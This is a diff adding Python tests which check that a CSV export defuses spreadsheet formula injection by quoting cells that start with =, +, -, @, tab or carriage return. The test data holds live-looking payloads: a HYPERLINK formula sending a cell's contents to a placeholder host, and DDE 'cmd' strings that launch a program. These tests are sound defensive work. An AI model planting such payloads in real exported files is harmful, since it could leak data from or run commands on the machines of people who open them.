@@ -107,3 +107,44 @@ def test_an_empty_cycle_exports_the_header_alone(runtime: Runtime):
 
     assert write_csv(out, runtime, "console:boss", CYCLE) == 0
     assert out.getvalue() == "\ufeff" + ",".join(EXPORT_COLUMNS) + "\n"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x/?"&B2,"bonus")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 led by a tab",
+    "\r=1+1 led by a carriage return",
+]
+
+
+def test_no_exported_cell_runs_as_a_formula_in_excel(runtime: Runtime):
+    """Stories, names, channels and ids that begin like a formula get a leading quote."""
+    for n, story in enumerate(FORMULAS):
+        add_case(
+            runtime.repo, Place("slack", "T1", f"=C{n}"), message=f"+m{n}",
+            nominee=f"=slack:U{n}", nominator="@slack:UB", story=story, day=DAY,
+            now=datetime(2026, 11, 23, 2, 0, n, tzinfo=UTC),
+        )  # fmt: skip
+    out = io.StringIO()
+    assert write_csv(out, runtime, "console:boss", CYCLE) == len(FORMULAS)
+    rows = list(csv.reader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))[1:]
+    assert [row[7] for row in rows] == ["'" + story for story in FORMULAS]
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+        assert row[2].startswith("'=slack:U") and row[3] == "'@slack:UB"
+        assert row[10].startswith("'=C") and row[11].startswith("'+m")
+
+
+def test_a_cycle_named_like_a_formula_is_defused_too(runtime: Runtime):
+    add_case(
+        runtime.repo, Place("slack", "T1", "C1"), message="m1", nominee="slack:U1",
+        nominator="slack:UB", story="an honest story", day=DAY,
+        now=datetime(2026, 11, 23, 2, 0, tzinfo=UTC),
+    )  # fmt: skip
+    out = io.StringIO()
+    write_csv(out, runtime, "console:boss", Cycle("-1+1", CYCLE.starts_on, CYCLE.ends_on))
+    [row] = list(csv.reader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))[1:]
+    assert row[0] == "'-1+1" and row[7] == "an honest story"
